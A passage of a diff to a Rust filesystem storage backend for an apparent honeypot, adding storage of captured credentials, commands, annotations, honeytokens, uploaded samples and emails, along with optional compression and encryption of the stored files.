@@ -1,23 +1,41 @@
 //! Filesystem-backed storage implementation.
 //!
 //! This backend persists sessions as human-readable text files, interactions as
-//! binary blobs, and artifacts in a per-session directory tree. It's intended
+//! binary blobs, artifacts in a per-session directory tree and credentials as
+//! JSON lines, commands and annotations as JSON documents. It's intended
 //! for easy inspection and simple deployments. The root directory can be
 //! provided via `MIEL_STORAGE_PATH` or specified explicitly.
+//!
+//! The files are small and local, so the async methods do their IO inline.
 
 use std::collections::HashMap;
-use std::fs::{self, File, OpenOptions};
-use std::io::{Read, Write};
+use std::fs::{self, OpenOptions};
+use std::io::{self, Read, Write};
+use std::net::SocketAddr;
 use std::path::{Path, PathBuf};
 use std::sync::Mutex;
 
-use crate::data_capture::types::{CaptureArtifacts, Direction, StdioStream};
+use crate::configuration::types::ArtifactCompression;
+use crate::data_capture::file_capture::Digests;
+use crate::data_capture::types::{
+    CaptureArtifacts, CapturedMessage, CarveSource, CarvedFile, Direction, FlowEndpoints,
+    OffloadedObject, RuleMatch, SshChannelCapture, StdioStream, TlsMetadata, Transport,
+    UploadedFile, VirusTotalReport,
+};
 use crate::error_handling::types::StorageError;
+use crate::honeytokens::{self, Honeytoken};
 use crate::session::Session;
+use crate::storage::compression;
+use crate::storage::encryption::{self, EncryptionKey};
+use crate::storage::search;
 use crate::storage::storage_trait::Storage;
-use crate::storage::types::SessionFilter;
+use crate::storage::types::{
+    Credential, CredentialFilter, ExecutedCommand, SearchField, SearchHit, SessionAnnotations,
+    SessionFilter, SessionSort,
+};
+use async_trait::async_trait;
 use chrono::{DateTime, Utc};
-use log::{debug, error, info};
+use log::{debug, error, info, warn};
 use uuid::Uuid;
 
 /// Replace potentially sensitive path components (such as UUID-like names) with a redacted token.
@@ -36,16 +54,33 @@ fn sanitize_path(p: &Path) -> String {
     parts.join("/")
 }
 
+/// `report` as a single line of JSON, for meta.txt
+fn report_json(report: &VirusTotalReport) -> Result<String, StorageError> {
+    serde_json::to_string(report).map_err(|e| {
+        error!("Failed to serialize VirusTotal report: {}", e);
+        StorageError::WriteFailed
+    })
+}
+
 /// Storage backend that writes data to the local filesystem.
 ///
 /// Layout under the root directory:
 /// - `sessions/` — one `<uuid>.session` file per session (KV text)
 /// - `interactions/` — one `<uuid>.bin` concatenating interaction bytes
-/// - `artifacts/<uuid>/` — per-session directory with `*.bin`, `*.csv`, and `meta.txt`
+/// - `artifacts/<uuid>/` — per-session directory with `*.bin`, `*.csv`, and `meta.txt`,
+///   uploaded files being kept as `uploads/<index>.bin`, received emails as
+///   `messages/<index>.eml` and files carved from the streams as `files/<index>.bin`
+/// - `credentials/` — one `<uuid>.jsonl` with a login attempt per line
+/// - `commands/` — one `<uuid>.json` holding the command timeline
+/// - `annotations/` — one `<uuid>.json` holding the tags and notes of the session
+/// - `search/` — one `<uuid>.jsonl` with a `[field, text]` search document per line
+/// - `honeytokens/` — one `<uuid>.json` per planted honeytoken
 pub struct FileStorage {
     base_path: PathBuf,
     session_index: Mutex<HashMap<Uuid, PathBuf>>, // maps id to session file path
     artifacts_path: PathBuf,
+    compression: ArtifactCompression,
+    encryption: Option<EncryptionKey>,
 }
 
 impl FileStorage {
@@ -57,6 +92,11 @@ impl FileStorage {
         let sessions_dir = base_path.join("sessions");
         let interactions_dir = base_path.join("interactions");
         let artifacts_path = base_path.join("artifacts");
+        let credentials_dir = base_path.join("credentials");
+        let commands_dir = base_path.join("commands");
+        let annotations_dir = base_path.join("annotations");
+        let search_dir = base_path.join("search");
+        let honeytokens_dir = base_path.join("honeytokens");
 
         fs::create_dir_all(&sessions_dir).map_err(|e| {
             error!(
@@ -82,6 +122,47 @@ impl FileStorage {
             );
             StorageError::WriteFailed
         })?;
+        fs::create_dir_all(&credentials_dir).map_err(|e| {
+            error!(
+                "Failed to create credentials directory {}: {}",
+                credentials_dir.display(),
+                e
+            );
+            StorageError::WriteFailed
+        })?;
+        fs::create_dir_all(&commands_dir).map_err(|e| {
+            error!(
+                "Failed to create commands directory {}: {}",
+                commands_dir.display(),
+                e
+            );
+            StorageError::WriteFailed
+        })?;
+        fs::create_dir_all(&annotations_dir).map_err(|e| {
+            error!(
+                "Failed to create annotations directory {}: {}",
+                annotations_dir.display(),
+                e
+            );
+            StorageError::WriteFailed
+        })?;
+
+        fs::create_dir_all(&search_dir).map_err(|e| {
+            error!(
+                "Failed to create search directory {}: {}",
+                search_dir.display(),
+                e
+            );
+            StorageError::WriteFailed
+        })?;
+        fs::create_dir_all(&honeytokens_dir).map_err(|e| {
+            error!(
+                "Failed to create honeytokens directory {}: {}",
+                honeytokens_dir.display(),
+                e
+            );
+            StorageError::WriteFailed
+        })?;
 
         debug!("File storage initialized at: {}", base_path.display());
 
@@ -89,6 +170,8 @@ impl FileStorage {
             base_path,
             session_index: Mutex::new(HashMap::new()),
             artifacts_path,
+            compression: ArtifactCompression::None,
+            encryption: None,
         })
     }
 
@@ -126,6 +209,108 @@ impl FileStorage {
         Self::new(base_path)
     }
 
+    /// Compresses the raw streams of the capture artifacts saved from now on.
+    ///
+    /// Uploaded files and emails are kept as received, for analysis.
+    pub fn with_compression(mut self, compression: ArtifactCompression) -> Self {
+        self.compression = compression;
+        self
+    }
+
+    /// Encrypts the files written from now on with `key`, see [`encryption`].
+    ///
+    /// The files written in plain text before keep being read as they are.
+    pub fn with_encryption(mut self, key: EncryptionKey) -> Self {
+        self.encryption = Some(key);
+        self
+    }
+
+    /// Path of a file from the storage root, which its encrypted records are bound to
+    fn context(&self, path: &Path) -> String {
+        path.strip_prefix(&self.base_path)
+            .unwrap_or(path)
+            .to_string_lossy()
+            .into_owned()
+    }
+
+    fn seal(&self, path: &Path, data: &[u8]) -> io::Result<Vec<u8>> {
+        match &self.encryption {
+            Some(key) => key
+                .seal(&self.context(path), data)
+                .map_err(|e| io::Error::other(e.to_string())),
+            None => Ok(data.to_vec()),
+        }
+    }
+
+    /// Writes `data` to `path`, encrypted when a key is set
+    fn write_file(&self, path: &Path, data: &[u8]) -> io::Result<()> {
+        fs::write(path, self.seal(path, data)?)
+    }
+
+    /// Appends `data` to `path`, as a record of its own when a key is set
+    fn append_file(&self, path: &Path, data: &[u8]) -> io::Result<()> {
+        if self.encryption.is_some() {
+            self.seal_plain_file(path)?;
+        }
+        let data = self.seal(path, data)?;
+        OpenOptions::new()
+            .create(true)
+            .append(true)
+            .open(path)?
+            .write_all(&data)
+    }
+
+    /// Rewrites `path` as a single record when it was written in plain text, so
+    /// that the records appended next do not follow plain data
+    fn seal_plain_file(&self, path: &Path) -> io::Result<()> {
+        let mut head = Vec::new();
+        match fs::File::open(path) {
+            Ok(file) => file
+                .take(encryption::MAGIC.len() as u64 + 1)
+                .read_to_end(&mut head)?,
+            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(()),
+            Err(e) => return Err(e),
+        };
+        if head.is_empty() || encryption::starts_encrypted(&head) {
+            return Ok(());
+        }
+        let data = self.read_file(path)?;
+        let mut sealing = path.as_os_str().to_owned();
+        sealing.push(".sealing");
+        fs::write(&sealing, self.seal(path, &data)?)?;
+        fs::rename(&sealing, path)?;
+        info!(
+            "Encrypted {}, written before encryption was enabled",
+            path.display()
+        );
+        Ok(())
+    }
+
+    /// Reads `path` back, decrypting it when it was encrypted
+    fn read_file(&self, path: &Path) -> io::Result<Vec<u8>> {
+        let payload = fs::read(path)?;
+        match &self.encryption {
+            Some(key) => key
+                .open(&self.context(path), &payload)
+                .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string())),
+            None if encryption::is_encrypted(&payload) => Err(io::Error::new(
+                io::ErrorKind::InvalidData,
+                "file is encrypted and no key is configured",
+            )),
+            None => Ok(payload),
+        }
+    }
+
+    /// Reads the text file `path` into `content`
+    fn read_text(&self, path: &Path, content: &mut String) -> io::Result<()> {
+        let data = self.read_file(path)?;
+        content.push_str(
+            std::str::from_utf8(&data)
+                .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?,
+        );
+        Ok(())
+    }
+
     fn sessions_dir(&self) -> PathBuf {
         self.base_path.join("sessions")
     }
@@ -135,21 +320,129 @@ impl FileStorage {
     fn artifacts_dir_for(&self, id: Uuid) -> PathBuf {
         self.artifacts_path.join(id.to_string())
     }
+    fn credentials_file_for(&self, id: Uuid) -> PathBuf {
+        self.base_path
+            .join("credentials")
+            .join(format!("{}.jsonl", id))
+    }
+    fn commands_file_for(&self, id: Uuid) -> PathBuf {
+        self.base_path.join("commands").join(format!("{}.json", id))
+    }
+    fn annotations_file_for(&self, id: Uuid) -> PathBuf {
+        self.base_path
+            .join("annotations")
+            .join(format!("{}.json", id))
+    }
+    fn search_file_for(&self, id: Uuid) -> PathBuf {
+        self.base_path.join("search").join(format!("{}.jsonl", id))
+    }
+    fn honeytokens_dir(&self) -> PathBuf {
+        self.base_path.join("honeytokens")
+    }
+
+    /// Writes the search documents of the artifacts to `search/<uuid>.jsonl`
+    fn write_search_file(&self, artifacts: &CaptureArtifacts) -> Result<(), StorageError> {
+        let path = self.search_file_for(artifacts.session_id);
+        let mut lines = String::new();
+        for document in search::documents(artifacts) {
+            let json = serde_json::to_string(&document).map_err(|e| {
+                error!("Failed to serialize search document: {}", e);
+                StorageError::WriteFailed
+            })?;
+            lines.push_str(&json);
+            lines.push('\n');
+        }
+        self.write_file(&path, lines.as_bytes()).map_err(|e| {
+            error!("Write failed: {}: {}", sanitize_path(&path), e);
+            StorageError::WriteFailed
+        })
+    }
+
+    /// Search documents of a session, none when it has no `search/<uuid>.jsonl`
+    fn read_search_file(&self, id: Uuid) -> Result<Vec<(SearchField, String)>, StorageError> {
+        let path = self.search_file_for(id);
+        let mut content = String::new();
+        match self.read_text(&path, &mut content) {
+            Ok(()) => {}
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
+            Err(e) => {
+                error!("Read failed {}: {}", sanitize_path(&path), e);
+                return Err(StorageError::ReadFailed);
+            }
+        };
+        let mut documents = Vec::new();
+        for line in content.lines() {
+            if let Ok(document) = serde_json::from_str(line) {
+                documents.push(document);
+            }
+        }
+        Ok(documents)
+    }
+
+    /// Annotations of a session, empty when its `annotations/<uuid>.json` does not exist
+    fn read_annotations(&self, id: Uuid) -> Result<SessionAnnotations, StorageError> {
+        let path = self.annotations_file_for(id);
+        let json = match self.read_file(&path) {
+            Ok(json) => json,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
+                return Ok(SessionAnnotations::new(id))
+            }
+            Err(e) => {
+                error!("Read failed {}: {}", sanitize_path(&path), e);
+                return Err(StorageError::ReadFailed);
+            }
+        };
+        serde_json::from_slice(&json).map_err(|e| {
+            error!("Malformed annotations in {}: {}", sanitize_path(&path), e);
+            StorageError::ReadFailed
+        })
+    }
+
+    /// Login attempts of a `credentials/<uuid>.jsonl` file, none when it does not exist
+    fn read_credentials_file(&self, path: &Path) -> Result<Vec<Credential>, StorageError> {
+        let mut content = String::new();
+        match self.read_text(path, &mut content) {
+            Ok(()) => {}
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
+            Err(e) => {
+                error!("Read failed {}: {}", sanitize_path(path), e);
+                return Err(StorageError::ReadFailed);
+            }
+        };
+        let mut credentials = Vec::new();
+        for line in content.lines() {
+            if line.trim().is_empty() {
+                continue;
+            }
+            credentials.push(serde_json::from_str(line).map_err(|e| {
+                error!("Malformed credential in {}: {}", sanitize_path(path), e);
+                StorageError::ReadFailed
+            })?);
+        }
+        Ok(credentials)
+    }
 
     fn session_file_path(&self, id: Uuid) -> PathBuf {
         self.sessions_dir().join(format!("{}.session", id))
     }
 
+    /// Removes everything stored for a session, missing files being ignored
+    fn remove_session_files(&self, id: Uuid) {
+        let _ = fs::remove_file(self.session_file_path(id));
+        let _ = fs::remove_file(self.interactions_dir().join(format!("{}.bin", id)));
+        let _ = fs::remove_dir_all(self.artifacts_dir_for(id));
+        let _ = fs::remove_file(self.credentials_file_for(id));
+        let _ = fs::remove_file(self.commands_file_for(id));
+        let _ = fs::remove_file(self.annotations_file_for(id));
+        let _ = fs::remove_file(self.search_file_for(id));
+        if let Ok(mut idx) = self.session_index.lock() {
+            idx.remove(&id);
+        }
+    }
+
     fn write_session_file(&self, session: &Session) -> Result<(), StorageError> {
         let path = self.session_file_path(session.id);
-        let mut f = File::create(&path).map_err(|e| {
-            error!(
-                "Failed to create session file {}: {}",
-                sanitize_path(&path),
-                e
-            );
-            StorageError::WriteFailed
-        })?;
+        let mut f = Vec::new();
         // Simple KV text format
         writeln!(f, "id: {}", session.id).map_err(|e| {
             error!("Failed to write session file {}: {}", path.display(), e);
@@ -198,11 +491,36 @@ impl FileStorage {
             crate::session_management::SessionStatus::Active => "Active",
             crate::session_management::SessionStatus::Completed => "Completed",
             crate::session_management::SessionStatus::Error => "Error",
+            crate::session_management::SessionStatus::Interrupted => "Interrupted",
         };
         writeln!(f, "status: {}", status_str).map_err(|e| {
             error!("Failed to write session file {}: {}", path.display(), e);
             StorageError::WriteFailed
         })?;
+        if let Some(ref enrichment) = session.enrichment {
+            let json = serde_json::to_string(enrichment).map_err(|e| {
+                error!("Failed to serialize enrichment of {}: {}", session.id, e);
+                StorageError::WriteFailed
+            })?;
+            writeln!(f, "enrichment: {}", json).map_err(|e| {
+                error!("Failed to write session file {}: {}", path.display(), e);
+                StorageError::WriteFailed
+            })?;
+        }
+        if let Some(addr) = session.original_dst {
+            writeln!(f, "original_dst: {}", addr).map_err(|e| {
+                error!("Failed to write session file {}: {}", path.display(), e);
+                StorageError::WriteFailed
+            })?;
+        }
+        self.write_file(&path, &f).map_err(|e| {
+            error!(
+                "Failed to write session file {}: {}",
+                sanitize_path(&path),
+                e
+            );
+            StorageError::WriteFailed
+        })?;
 
         // update index
         if let Ok(mut idx) = self.session_index.lock() {
@@ -214,12 +532,10 @@ impl FileStorage {
 
     fn parse_session_file(&self, path: &Path) -> Result<Session, StorageError> {
         let mut content = String::new();
-        File::open(path)
-            .and_then(|mut f| f.read_to_string(&mut content))
-            .map_err(|e| {
-                error!("Failed to read session file {}: {}", sanitize_path(path), e);
-                StorageError::ReadFailed
-            })?;
+        self.read_text(path, &mut content).map_err(|e| {
+            error!("Failed to read session file {}: {}", sanitize_path(path), e);
+            StorageError::ReadFailed
+        })?;
         let mut map: HashMap<String, String> = HashMap::new();
         for line in content.lines() {
             if let Some((k, v)) = line.split_once(": ") {
@@ -300,8 +616,27 @@ impl FileStorage {
             "Pending" => crate::session_management::SessionStatus::Pending,
             "Active" => crate::session_management::SessionStatus::Active,
             "Completed" => crate::session_management::SessionStatus::Completed,
+            "Interrupted" => crate::session_management::SessionStatus::Interrupted,
             _ => crate::session_management::SessionStatus::Error,
         };
+        let enrichment = map
+            .remove("enrichment")
+            .map(|s| {
+                serde_json::from_str(&s).map_err(|e| {
+                    error!("Invalid enrichment in {}: {}", path.display(), e);
+                    StorageError::ReadFailed
+                })
+            })
+            .transpose()?;
+        let original_dst = map
+            .remove("original_dst")
+            .map(|s| {
+                s.parse::<SocketAddr>().map_err(|e| {
+                    error!("Invalid original_dst in {}: {}", path.display(), e);
+                    StorageError::ReadFailed
+                })
+            })
+            .transpose()?;
         debug!("Session data parsed successfully");
         Ok(Session {
             id,
@@ -312,16 +647,22 @@ impl FileStorage {
             container_id,
             bytes_transferred,
             status,
+            enrichment,
+            original_dst,
         })
     }
 }
 
+#[async_trait]
 impl Storage for FileStorage {
-    fn save_session(&self, session: &Session) -> Result<(), StorageError> {
+    async fn save_session(&self, session: &Session) -> Result<(), StorageError> {
         self.write_session_file(session)
     }
 
-    fn get_sessions(&self, filter: Option<SessionFilter>) -> Result<Vec<Session>, StorageError> {
+    async fn get_sessions(
+        &self,
+        filter: Option<SessionFilter>,
+    ) -> Result<Vec<Session>, StorageError> {
         let mut sessions = Vec::new();
         for entry in fs::read_dir(self.sessions_dir()).map_err(|e| {
             error!("Failed to read sessions dir: {}", e);
@@ -341,37 +682,12 @@ impl Storage for FileStorage {
         let original_len = sessions.len();
         if let Some(f) = filter {
             sessions.retain(|s| {
-                // service_name
-                if let Some(ref name) = f.service_name {
-                    if &s.service_name != name {
-                        return false;
-                    }
-                }
-                // time range
-                if let Some(start) = f.start_date {
-                    if s.start_time < start {
-                        return false;
-                    }
-                }
-                if let Some(end) = f.end_date {
-                    if s.end_time.unwrap_or(s.start_time) > end {
-                        return false;
-                    }
-                }
-                // client ip
-                if let Some(ip) = f.client_addr {
-                    if s.client_addr.ip() != ip {
-                        return false;
-                    }
-                }
-                // status
-                if let Some(ref st) = f.status {
-                    if &s.status != st {
-                        return false;
-                    }
-                }
-                true
+                f.matches(s, |tag| {
+                    self.read_annotations(s.id)
+                        .is_ok_and(|annotations| annotations.has_tag(tag))
+                })
             });
+            sessions = f.paginate(sessions);
         }
         debug!(
             "Retrieved {} sessions ({} after filtering)",
@@ -381,17 +697,17 @@ impl Storage for FileStorage {
         Ok(sessions)
     }
 
-    fn save_interaction(&self, session_id: Uuid, data: &[u8]) -> Result<(), StorageError> {
+    async fn get_session(&self, session_id: Uuid) -> Result<Session, StorageError> {
+        let path = self.session_file_path(session_id);
+        if !path.exists() {
+            return Err(StorageError::ReadFailed);
+        }
+        self.parse_session_file(&path)
+    }
+
+    async fn save_interaction(&self, session_id: Uuid, data: &[u8]) -> Result<(), StorageError> {
         let path = self.interactions_dir().join(format!("{}.bin", session_id));
-        let mut f = OpenOptions::new()
-            .create(true)
-            .append(true)
-            .open(&path)
-            .map_err(|e| {
-                error!("Open append failed {}: {}", sanitize_path(&path), e);
-                StorageError::WriteFailed
-            })?;
-        f.write_all(data).map_err(|e| {
+        self.append_file(&path, data).map_err(|e| {
             error!("Write failed {}: {}", sanitize_path(&path), e);
             StorageError::WriteFailed
         })?;
@@ -399,20 +715,17 @@ impl Storage for FileStorage {
         Ok(())
     }
 
-    fn get_session_data(&self, session_id: Uuid) -> Result<Vec<u8>, StorageError> {
+    async fn get_session_data(&self, session_id: Uuid) -> Result<Vec<u8>, StorageError> {
         let path = self.interactions_dir().join(format!("{}.bin", session_id));
-        let mut buf = Vec::new();
-        File::open(&path)
-            .and_then(|mut f| f.read_to_end(&mut buf))
-            .map_err(|e| {
-                error!("Read failed {}: {}", sanitize_path(&path), e);
-                StorageError::ReadFailed
-            })?;
+        let buf = self.read_file(&path).map_err(|e| {
+            error!("Read failed {}: {}", sanitize_path(&path), e);
+            StorageError::ReadFailed
+        })?;
         debug!("Retrieved session data ({} bytes)", buf.len());
         Ok(buf)
     }
 
-    fn cleanup_old_sessions(&self, older_than: DateTime<Utc>) -> Result<usize, StorageError> {
+    async fn cleanup_old_sessions(&self, older_than: DateTime<Utc>) -> Result<usize, StorageError> {
         let mut removed = 0usize;
         for entry in fs::read_dir(self.sessions_dir()).map_err(|e| {
             error!("Failed to read sessions dir: {}", e);
@@ -429,10 +742,7 @@ impl Storage for FileStorage {
             if let Ok(sess) = self.parse_session_file(&path) {
                 let ts = sess.end_time.unwrap_or(sess.start_time);
                 if ts < older_than {
-                    let _ = fs::remove_file(&path);
-                    let _ =
-                        fs::remove_file(self.interactions_dir().join(format!("{}.bin", sess.id)));
-                    let _ = fs::remove_dir_all(self.artifacts_dir_for(sess.id));
+                    self.remove_session_files(sess.id);
                     removed += 1;
                 }
             }
@@ -441,7 +751,41 @@ impl Storage for FileStorage {
         Ok(removed)
     }
 
-    fn save_capture_artifacts(&self, artifacts: &CaptureArtifacts) -> Result<(), StorageError> {
+    async fn delete_sessions(&self, session_ids: &[Uuid]) -> Result<usize, StorageError> {
+        let mut removed = 0usize;
+        for &id in session_ids {
+            if self.session_file_path(id).exists() {
+                removed += 1;
+            }
+            self.remove_session_files(id);
+        }
+        info!("Deleted {} sessions", removed);
+        Ok(removed)
+    }
+
+    async fn storage_size(&self) -> Result<u64, StorageError> {
+        let mut size = 0;
+        let mut dirs = vec![self.base_path.clone()];
+        while let Some(dir) = dirs.pop() {
+            for entry in fs::read_dir(&dir).map_err(|e| {
+                error!("Failed to read {}: {}", sanitize_path(&dir), e);
+                StorageError::ReadFailed
+            })? {
+                let Ok(entry) = entry else { continue };
+                match entry.metadata() {
+                    Ok(meta) if meta.is_dir() => dirs.push(entry.path()),
+                    Ok(meta) => size += meta.len(),
+                    Err(_) => {}
+                }
+            }
+        }
+        Ok(size)
+    }
+
+    async fn save_capture_artifacts(
+        &self,
+        artifacts: &CaptureArtifacts,
+    ) -> Result<(), StorageError> {
         let dir = self.artifacts_dir_for(artifacts.session_id);
         fs::create_dir_all(&dir).map_err(|e| {
             error!(
@@ -452,50 +796,36 @@ impl Storage for FileStorage {
             StorageError::WriteFailed
         })?;
         // tcp dirs
-        let mut f = File::create(dir.join("tcp_client_to_container.bin")).map_err(|e| {
+        self.write_file(
+            &dir.join("tcp_client_to_container.bin"),
+            &compression::encode(self.compression, &artifacts.tcp_client_to_container)?,
+        )
+        .map_err(|e| {
             error!(
-                "Create failed: {}: {}",
+                "Write failed: {}: {}",
                 sanitize_path(&dir.join("tcp_client_to_container.bin")),
                 e
             );
             StorageError::WriteFailed
         })?;
-        f.write_all(&artifacts.tcp_client_to_container)
-            .map_err(|e| {
-                error!(
-                    "Write failed: {}: {}",
-                    sanitize_path(&dir.join("tcp_client_to_container.bin")),
-                    e
-                );
-                StorageError::WriteFailed
-            })?;
-        let mut f = File::create(dir.join("tcp_container_to_client.bin")).map_err(|e| {
+        self.write_file(
+            &dir.join("tcp_container_to_client.bin"),
+            &compression::encode(self.compression, &artifacts.tcp_container_to_client)?,
+        )
+        .map_err(|e| {
             error!(
-                "Create failed: {}: {}",
+                "Write failed: {}: {}",
                 sanitize_path(&dir.join("tcp_container_to_client.bin")),
                 e
             );
             StorageError::WriteFailed
         })?;
-        f.write_all(&artifacts.tcp_container_to_client)
-            .map_err(|e| {
-                error!(
-                    "Write failed: {}: {}",
-                    sanitize_path(&dir.join("tcp_container_to_client.bin")),
-                    e
-                );
-                StorageError::WriteFailed
-            })?;
         // stdio
-        let mut f = File::create(dir.join("stdio_stdin.bin")).map_err(|e| {
-            error!(
-                "Create failed: {}: {}",
-                sanitize_path(&dir.join("stdio_stdin.bin")),
-                e
-            );
-            StorageError::WriteFailed
-        })?;
-        f.write_all(artifacts.stdio_stdin.as_bytes()).map_err(|e| {
+        self.write_file(
+            &dir.join("stdio_stdin.bin"),
+            &compression::encode(self.compression, artifacts.stdio_stdin.as_bytes())?,
+        )
+        .map_err(|e| {
             error!(
                 "Write failed: {}: {}",
                 sanitize_path(&dir.join("stdio_stdin.bin")),
@@ -503,49 +833,32 @@ impl Storage for FileStorage {
             );
             StorageError::WriteFailed
         })?;
-        let mut f = File::create(dir.join("stdio_stdout.bin")).map_err(|e| {
+        self.write_file(
+            &dir.join("stdio_stdout.bin"),
+            &compression::encode(self.compression, artifacts.stdio_stdout.as_bytes())?,
+        )
+        .map_err(|e| {
             error!(
-                "Create failed: {}: {}",
+                "Write failed: {}: {}",
                 sanitize_path(&dir.join("stdio_stdout.bin")),
                 e
             );
             StorageError::WriteFailed
         })?;
-        f.write_all(artifacts.stdio_stdout.as_bytes())
-            .map_err(|e| {
-                error!(
-                    "Write failed: {}: {}",
-                    sanitize_path(&dir.join("stdio_stdout.bin")),
-                    e
-                );
-                StorageError::WriteFailed
-            })?;
-        let mut f = File::create(dir.join("stdio_stderr.bin")).map_err(|e| {
+        self.write_file(
+            &dir.join("stdio_stderr.bin"),
+            &compression::encode(self.compression, artifacts.stdio_stderr.as_bytes())?,
+        )
+        .map_err(|e| {
             error!(
-                "Create failed: {}: {}",
+                "Write failed: {}: {}",
                 sanitize_path(&dir.join("stdio_stderr.bin")),
                 e
             );
             StorageError::WriteFailed
         })?;
-        f.write_all(artifacts.stdio_stderr.as_bytes())
-            .map_err(|e| {
-                error!(
-                    "Write failed: {}: {}",
-                    sanitize_path(&dir.join("stdio_stderr.bin")),
-                    e
-                );
-                StorageError::WriteFailed
-            })?;
         // timestamps CSV-like
-        let mut f = File::create(dir.join("tcp_timestamps.csv")).map_err(|e| {
-            error!(
-                "Create failed: {}: {}",
-                sanitize_path(&dir.join("tcp_timestamps.csv")),
-                e
-            );
-            StorageError::WriteFailed
-        })?;
+        let mut f = Vec::new();
         for (ts, dirn, sz) in &artifacts.tcp_timestamps {
             let d = match dirn {
                 Direction::ClientToContainer => "C2S",
@@ -560,14 +873,16 @@ impl Storage for FileStorage {
                 StorageError::WriteFailed
             })?;
         }
-        let mut f = File::create(dir.join("stdio_timestamps.csv")).map_err(|e| {
-            error!(
-                "Create failed: {}: {}",
-                sanitize_path(&dir.join("stdio_timestamps.csv")),
-                e
-            );
-            StorageError::WriteFailed
-        })?;
+        self.write_file(&dir.join("tcp_timestamps.csv"), &f)
+            .map_err(|e| {
+                error!(
+                    "Write failed: {}: {}",
+                    sanitize_path(&dir.join("tcp_timestamps.csv")),
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+        let mut f = Vec::new();
         for (ts, stream, sz) in &artifacts.stdio_timestamps {
             let s = match stream {
                 StdioStream::Stdin => "Stdin",
@@ -583,15 +898,17 @@ impl Storage for FileStorage {
                 StorageError::WriteFailed
             })?;
         }
+        self.write_file(&dir.join("stdio_timestamps.csv"), &f)
+            .map_err(|e| {
+                error!(
+                    "Write failed: {}: {}",
+                    sanitize_path(&dir.join("stdio_timestamps.csv")),
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
         // meta
-        let mut f = File::create(dir.join("meta.txt")).map_err(|e| {
-            error!(
-                "Create failed: {}: {}",
-                sanitize_path(&dir.join("meta.txt")),
-                e
-            );
-            StorageError::WriteFailed
-        })?;
+        let mut f = Vec::new();
         writeln!(f, "session_id: {}", artifacts.session_id).map_err(|e| {
             error!(
                 "Write failed: {}: {}",
@@ -617,34 +934,276 @@ impl Storage for FileStorage {
             );
             StorageError::WriteFailed
         })?;
-        debug!("Session artifacts saved successfully");
-        Ok(())
-    }
-
-    fn get_capture_artifacts(&self, session_id: Uuid) -> Result<CaptureArtifacts, StorageError> {
-        let dir = self.artifacts_dir_for(session_id);
-        let read_bin = |name: &str| -> Result<Vec<u8>, StorageError> {
-            let p = dir.join(name);
-            let mut buf = Vec::new();
-            File::open(&p)
-                .and_then(|mut f| f.read_to_end(&mut buf))
-                .map_err(|e| {
-                    error!("Read failed {}: {}", sanitize_path(&p), e);
-                    StorageError::ReadFailed
-                })?;
-            Ok(buf)
-        };
-        let tcp_client_to_container = read_bin("tcp_client_to_container.bin")?;
-        let tcp_container_to_client = read_bin("tcp_container_to_client.bin")?;
-        let stdio_stdin = read_bin("stdio_stdin.bin")?;
-        let stdio_stdout = read_bin("stdio_stdout.bin")?;
-        let stdio_stderr = read_bin("stdio_stderr.bin")?;
-
+        if let Some(flow) = artifacts.flow {
+            let transport = match flow.transport {
+                Transport::Tcp => "tcp",
+                Transport::Udp => "udp",
+            };
+            writeln!(
+                f,
+                "transport: {}\nclient_addr: {}\nserver_addr: {}",
+                transport, flow.client_addr, flow.server_addr
+            )
+            .map_err(|e| {
+                error!(
+                    "Write failed: {}: {}",
+                    sanitize_path(&dir.join("meta.txt")),
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+        }
+        if let Some(tls) = &artifacts.tls {
+            let mut lines = format!(
+                "tls_version: {}\ntls_cipher_suite: {}",
+                tls.version, tls.cipher_suite
+            );
+            if let Some(sni) = &tls.sni {
+                lines.push_str(&format!("\ntls_sni: {}", sni));
+            }
+            if let Some(alpn) = &tls.alpn {
+                lines.push_str(&format!("\ntls_alpn: {}", alpn));
+            }
+            if let Some(ja3) = &tls.ja3 {
+                lines.push_str(&format!("\ntls_ja3: {}", ja3));
+            }
+            if let Some(ja3_hash) = &tls.ja3_hash {
+                lines.push_str(&format!("\ntls_ja3_hash: {}", ja3_hash));
+            }
+            writeln!(f, "{}", lines).map_err(|e| {
+                error!(
+                    "Write failed: {}: {}",
+                    sanitize_path(&dir.join("meta.txt")),
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+        }
+        // uploads, listed in meta and stored raw so that samples can be analyzed as is
+        if !artifacts.uploaded_files.is_empty() {
+            let uploads_dir = dir.join("uploads");
+            fs::create_dir_all(&uploads_dir).map_err(|e| {
+                error!(
+                    "Failed to create uploads dir {}: {}",
+                    sanitize_path(&uploads_dir),
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+            for (i, upload) in artifacts.uploaded_files.iter().enumerate() {
+                let path = uploads_dir.join(format!("{}.bin", i));
+                self.write_file(&path, &upload.content).map_err(|e| {
+                    error!("Write failed: {}: {}", sanitize_path(&path), e);
+                    StorageError::WriteFailed
+                })?;
+                let mut lines = format!(
+                    "upload: {} {} {}",
+                    upload.sha256,
+                    u8::from(upload.truncated),
+                    upload.name
+                );
+                if let Some(report) = &upload.virustotal {
+                    lines.push_str(&format!("\nupload_virustotal: {}", report_json(report)?));
+                }
+                writeln!(f, "{}", lines).map_err(|e| {
+                    error!(
+                        "Write failed: {}: {}",
+                        sanitize_path(&dir.join("meta.txt")),
+                        e
+                    );
+                    StorageError::WriteFailed
+                })?;
+            }
+        }
+        // emails, envelopes in meta and messages stored as received
+        if !artifacts.messages.is_empty() {
+            let messages_dir = dir.join("messages");
+            fs::create_dir_all(&messages_dir).map_err(|e| {
+                error!(
+                    "Failed to create messages dir {}: {}",
+                    sanitize_path(&messages_dir),
+                    e
+                );
+                StorageError::WriteFailed
+            })?;
+            for (i, message) in artifacts.messages.iter().enumerate() {
+                let path = messages_dir.join(format!("{}.eml", i));
+                self.write_file(&path, &message.content).map_err(|e| {
+                    error!("Write failed: {}: {}", sanitize_path(&path), e);
+                    StorageError::WriteFailed
+                })?;
+                let mut lines = format!(
+                    "message: {} {} {}\nmessage_helo: {}",
